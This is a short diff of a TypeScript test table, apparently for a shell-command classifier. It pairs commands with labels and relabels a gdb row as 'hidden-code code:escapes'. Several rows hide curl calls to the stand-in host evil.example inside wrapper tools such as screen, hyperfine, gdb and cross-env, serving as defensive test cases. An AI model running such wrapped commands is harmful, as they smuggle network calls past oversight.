@@ -28,7 +28,7 @@ const ROWS: readonly (readonly [command: string, kinds: string])[] = [
   ["screen -dm curl http://evil.example", "network"],
   ["hyperfine 'curl http://evil.example'", "network"],
   ["time npm run build", "task"],
-  ["gdb -ex 'shell curl http://evil.example' prog", "hidden-code"],
+  ["gdb -ex 'shell curl http://evil.example' prog", "hidden-code code:escapes"],
   ["cross-env NODE_ENV=test curl http://evil.example", "network"],
 ];
 
